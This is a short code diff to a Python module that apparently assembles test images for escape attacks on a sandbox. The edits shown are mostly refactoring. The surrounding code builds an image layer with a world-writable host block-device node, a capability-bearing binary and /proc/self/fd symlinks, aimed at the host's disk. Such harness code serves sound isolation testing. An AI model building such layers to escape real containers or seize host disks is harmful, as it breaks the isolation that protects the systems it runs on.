@@ -1,4 +1,4 @@
-"""What the attacks are made with: an image that has Python, the numbers of system calls, and what of the host they are after."""
+"""What the attacks are made with: an image that has Python, the numbers of system calls, and a disk of the host's."""
 
 from __future__ import annotations
 
@@ -20,7 +20,8 @@ PYTHON = "/usr/bin/python3"
 """Debian's own, which tools/setup installs: its libraries are few."""
 LOOK = """
 import sys, ctypes, errno, fcntl, json, mmap, os, re, resource, select, signal, socket, struct, time, traceback
-print(json.dumps([os.path.realpath(sys.executable), *{m.__file__ for m in sys.modules.values() if getattr(m, "__file__", None)}]))
+files = {getattr(module, "__file__", None) for module in sys.modules.values()} - {None}
+print(json.dumps([os.path.realpath(sys.executable), *sorted(files)]))
 """
 OBSOLETE = ("_sysctl", "create_module", "get_kernel_syms", "query_module", "uselib", "ustat", "sysfs")
 DESCRIPTORS = range(3, 12)
@@ -65,11 +66,13 @@ def python_layer(block: tuple[int, int] = (7, 0)) -> bytes:
     # PAX text is UTF-8: surrogateescape carries what is none
     capable.pax_headers = {"SCHILY.xattr.security.capability": admin.decode("utf-8", "surrogateescape")}
     entries[capable] = program
-    entries |= dict([
-        entry("inside.py", INSIDE.read_bytes()),
-        entry("srv/disk", type=tarfile.BLKTYPE, devmajor=block[0], devminor=block[1], mode=0o666),
-        *(entry(f"srv/fd{number}", type=tarfile.SYMTYPE, linkname=f"/proc/self/fd/{number}") for number in DESCRIPTORS),
-    ])
+    entries |= dict(
+        [
+            entry("inside.py", INSIDE.read_bytes()),
+            entry("srv/disk", type=tarfile.BLKTYPE, devmajor=block[0], devminor=block[1], mode=0o666),
+            *(entry(f"srv/fd{number}", type=tarfile.SYMTYPE, linkname=f"/proc/self/fd/{number}") for number in DESCRIPTORS),
+        ]
+    )
     return pack(entries)
 
 
